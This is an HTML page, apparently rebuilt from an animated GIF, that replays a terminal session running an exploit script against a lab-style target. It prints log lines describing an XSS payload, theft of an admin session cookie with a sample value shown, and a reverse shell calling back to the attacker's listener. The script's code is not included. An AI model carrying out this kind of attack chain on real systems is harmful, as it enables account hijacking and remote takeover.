
These frames come from a looping animation (916 px wide and 292 px high, 8000 ms). An HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #222834; }
  svg, #screen { position: absolute; left: 0; top: 0; }
  #screen {
    margin: .6px 0 0 2px; color: #e9ebee;
    font: 12.43px/14.9px "Noto Sans Mono", "DejaVu Sans Mono", monospace;
    text-rendering: geometricPrecision; font-variant-ligatures: none;
  }
  b { font-weight: 700; }
  .user { color: #df0f17; }
  .path { color: #2f86f2; }
</style>
</head>
<body>
<svg width="916" height="292">
  <circle cx="525" cy="185" r="70" fill="#2c2d37"/>
  <rect id="cursor" width="7.46" height="14.6" fill="#fff"/>
</svg>
<pre id="screen"><b class="user">demo@demo</b>:<b class="path">/tmp/x</b>$ sudo python3 exploit.py 10.10.10.25 8000 10.10.16.7 9000
<span id="output"></span></pre>
<script>
  const LOOP = 8000, ENTER = 300;
  const COLUMN = 7.46, ROW = 14.9, PROMPT_LENGTH = 74;

  // [time in ms, printed line]
  const log = [
    [900, "Sending XSS payload"],
    [1300, "Waiting for the admin user to visit the infected note"],
    [5300, "Sending JavaScript to leak the admin session cookie"],
    [5800, "Admin session cookie leaked: s%3A24fb44b0-b1fa-11ec-8a10-a13ecdaa986d.mcCTa9ALYRGtxUtgZgM1VZNPuQcYALxoxRT%2F%2Br3buy4"],
    [5800, "Listening on port 9000"],
    [5800, "Instructing the target to download and execute the reverse shell payload"],
    [6200, "Sending reverse shell payload"],
    [6500, "Connection received from  ('10.10.10.25', 56216)"]
  ];

  const output = document.getElementById("output");
  const cursor = document.getElementById("cursor");
  const start = performance.now();

  function render(time) {
    const printed = log.filter(([at]) => time >= at);
    const text = printed.map(([, line]) => "[*] " + line).join("\n");
    if (output.textContent !== text) output.textContent = text;

    const entered = time >= ENTER;
    const column = entered ? 0 : PROMPT_LENGTH;
    const row = entered ? printed.length + 1 : 0;
    cursor.setAttribute("x", 1.8 + column * COLUMN);
    cursor.setAttribute("y", .6 + row * ROW);
  }

  function tick() {
    render((performance.now() - start) % LOOP);
    requestAnimationFrame(tick);
  }
  tick();
</script>
</body>
</html>
```
